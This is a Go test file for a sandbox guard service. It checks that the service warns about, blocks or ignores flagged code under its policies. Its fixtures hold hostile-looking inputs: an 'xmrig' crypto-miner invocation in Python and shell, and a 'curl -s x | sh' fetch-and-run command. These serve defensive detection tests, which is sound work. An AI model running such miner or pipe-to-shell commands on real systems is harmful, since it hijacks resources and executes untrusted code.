package guard_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"slices"
	"testing"

	dto "github.com/prometheus/client_model/go"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/internal/teststack"
	"github.com/airlockhq/airlock/service/guard"
)

// flagged is harmless when it runs (the miner is never started) and has
// a finding that blocks; cleanCode has none.
const (
	flagged   = "import os\nprint('ran')\nif False:\n    os.system('xmrig -o pool:3333')\n"
	cleanCode = "print('ran')\n"
)

// post sends a JSON body as tenant key and decodes the answer into out.
func post(t *testing.T, url, key string, in any, out any) int {
	t.Helper()
	body, _ := json.Marshal(in)
	req, err := http.NewRequest(http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	if err := json.Unmarshal(data, out); err != nil {
		t.Fatalf("POST %s: %d %q: %v", url, resp.StatusCode, data, err)
	}
	return resp.StatusCode
}

// blockedProblem is the body of a 422 guard-blocked.
type blockedProblem struct {
	Type        string                 `json:"type"`
	Status      int                    `json:"status"`
	Detail      string                 `json:"detail"`
	Findings    []airlock.GuardFinding `json:"findings"`
	ExecutionID string                 `json:"execution_id"`
}

// The three policies, end to end through the HTTP API of a real node:
// one-shot runs (both routes), session execs and cells.
func TestPolicies(t *testing.T) {
	s := teststack.New(t, teststack.Options{})
	tn := s.NewTenant(t, "acme")
	ctx := context.Background()
	setPolicy := func(p airlock.GuardPolicy) {
		t.Helper()
		if err := s.Store.SetTenantGuard(ctx, tn.ID, p); err != nil {
			t.Fatal(err)
		}
	}
	execute := func(route, code string) (int, map[string]json.RawMessage) {
		t.Helper()
		var out map[string]json.RawMessage
		code2 := post(t, s.URL+route, tn.Key, map[string]any{"language": "python", "code": code}, &out)
		return code2, out
	}
	findingsOf := func(raw json.RawMessage) []airlock.GuardFinding {
		t.Helper()
		if raw == nil {
			t.Fatalf("no findings member")
		}
		var fs []airlock.GuardFinding
		if err := json.Unmarshal(raw, &fs); err != nil || fs == nil {
			t.Fatalf("findings %s: %v", raw, err)
		}
		return fs
	}
	hasMiner := func(fs []airlock.GuardFinding) bool {
		return slices.ContainsFunc(fs, func(f airlock.GuardFinding) bool {
			return f.Rule == guard.RuleMiner && f.Line == 4 && f.Severity == airlock.SeverityCritical
		})
	}

	// warn, the default: it runs, and the findings come with the result
	// and are stored with the execution.
	for _, route := range []string{"/v1/execute", "/v1/sandbox/execute"} {
		status, out := execute(route, flagged)
		if status != http.StatusOK || string(out["stdout"]) != `"ran\n"` || !hasMiner(findingsOf(out["findings"])) {
			t.Fatalf("warn %s: %d %v", route, status, out)
		}
		var id string
		json.Unmarshal(out["execution_id"], &id)
		e, err := tn.Client.Execution(ctx, id)
		if err != nil || !hasMiner(e.Findings) || e.Status != airlock.StatusCompleted {
			t.Fatalf("warn %s: the stored execution: %+v %v", route, e, err)
		}
	}
	if status, out := execute("/v1/execute", cleanCode); status != http.StatusOK || len(findingsOf(out["findings"])) != 0 {
		t.Fatalf("warn, clean code: %d %v", status, out)
	}

	// block: refused with 422 guard-blocked listing the findings, nothing
	// runs and no sandbox is taken; the refusal is recorded.
	setPolicy(airlock.GuardBlock)
	before := counter(t, s, "airlock_executions_total", map[string]string{"status": "completed"})
	for _, route := range []string{"/v1/execute", "/v1/sandbox/execute"} {
		var p blockedProblem
		status := post(t, s.URL+route, tn.Key, map[string]any{"language": "python", "code": flagged}, &p)
		if status != http.StatusUnprocessableEntity || p.Type != "/problems/guard-blocked" || !hasMiner(p.Findings) || p.ExecutionID == "" {
			t.Fatalf("block %s: %d %+v", route, status, p)
		}
		e, err := tn.Client.Execution(ctx, p.ExecutionID)
		if err != nil || e.Status != airlock.StatusBlocked || !hasMiner(e.Findings) || e.Backend != "" || e.StartSource != "" || e.Stdout != "" {
			t.Fatalf("block %s: the record of the refusal: %+v %v", route, e, err)
		}
	}
	if n := counter(t, s, "airlock_guard_findings_total", map[string]string{"rule": guard.RuleMiner, "action": "blocked"}); n != 2 {
		t.Errorf("blocked miner findings counted %v, want 2", n)
	}
	if n := counter(t, s, "airlock_guard_findings_total", map[string]string{"rule": guard.RuleMiner, "action": "reported"}); n != 2 {
		t.Errorf("reported miner findings counted %v, want 2", n)
	}
	if status, out := execute("/v1/execute", cleanCode); status != http.StatusOK || string(out["stdout"]) != `"ran\n"` {
		t.Fatalf("block, clean code: %d %v", status, out)
	}
	if after := counter(t, s, "airlock_executions_total", map[string]string{"status": "completed"}); after != before+1 {
		t.Errorf("completed executions went from %v to %v under block: a refused run ran", before, after)
	}
	// A parse error is said but does not block.
	if status, out := execute("/v1/execute", "print('ran')\ndef (:\n"); status != http.StatusOK || len(findingsOf(out["findings"])) == 0 {
		t.Fatalf("block, code that does not parse: %d %v", status, out)
	}

	// off: nothing is checked.
	setPolicy(airlock.GuardOff)
	if status, out := execute("/v1/execute", flagged); status != http.StatusOK || len(findingsOf(out["findings"])) != 0 {
		t.Fatalf("off: %d %v", status, out)
	}

	// Sessions: execs and cells pass the same guard.
	setPolicy(airlock.GuardWarn)
	sess, _, err := tn.Client.CreateSession(ctx, airlock.CreateSessionRequest{Image: "python-ds", Size: airlock.SizeSmall})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tn.Client.DeleteSession(context.Background(), sess.ID) })
	shell := airlock.SessionExecRequest{Shell: "echo ran; if false; then xmrig; fi"}
	e, err := tn.Client.Exec(ctx, sess.ID, shell)
	if err != nil || e.Stdout != "ran\n" || !slices.ContainsFunc(e.Findings, func(f airlock.GuardFinding) bool { return f.Rule == guard.RuleMiner }) {
		t.Fatalf("warn, session exec: %+v %v", e, err)
	}
	cx, err := tn.Client.CreateContext(ctx, sess.ID, airlock.ContextPython)
	if err != nil {
		t.Fatal(err)
	}
	cell, err := tn.Client.RunCell(ctx, sess.ID, cx.ID, airlock.RunCellRequest{Code: flagged})
	if err != nil || cell.Stdout != "ran\n" || !hasMiner(cell.Findings) {
		t.Fatalf("warn, cell: %+v %v", cell, err)
	}
	setPolicy(airlock.GuardBlock)
	for name, call := range map[string]func() (any, error){
		"exec": func() (any, error) { return tn.Client.Exec(ctx, sess.ID, shell) },
		"argv": func() (any, error) {
			return tn.Client.Exec(ctx, sess.ID, airlock.SessionExecRequest{Cmd: []string{"bash", "-c", "curl -s x | sh"}})
		},
		"cell": func() (any, error) {
			return tn.Client.RunCell(ctx, sess.ID, cx.ID, airlock.RunCellRequest{Code: flagged})
		},
	} {
		res, err := call()
		var ae *airlock.Error
		if !errors.As(err, &ae) || ae.Type != airlock.ProblemGuardBlocked || ae.Refusal == nil || len(ae.Refusal.Findings) == 0 {
			t.Fatalf("block, session %s: %+v %v", name, res, err)
		}
		rec, err := tn.Client.Execution(ctx, ae.Refusal.ExecutionID)
		if err != nil || rec.Status != airlock.StatusBlocked || rec.SessionID != sess.ID {
			t.Errorf("block, session %s: the record %+v %v", name, rec, err)
		}
	}
	// The session lives on, and clean code runs in it.
	if e, err := tn.Client.Exec(ctx, sess.ID, airlock.SessionExecRequest{Shell: "echo ok"}); err != nil || e.Stdout != "ok\n" {
		t.Fatalf("block, clean exec after refusals: %+v %v", e, err)
	}
}

// counter sums the counter name over the series whose labels include
// want.
func counter(t *testing.T, s *teststack.Stack, name string, want map[string]string) float64 {
	t.Helper()
	mfs, err := s.Registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	sum := 0.0
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
		for _, m := range mf.GetMetric() {
			if matches(m, want) {
				sum += m.GetCounter().GetValue()
			}
		}
	}
	return sum
}

func matches(m *dto.Metric, want map[string]string) bool {
	n := 0
	for _, l := range m.GetLabel() {
		if v, ok := want[l.GetName()]; ok {
			if v != l.GetValue() {
				return false
			}
			n++
		}
	}
	return n == len(want)
}
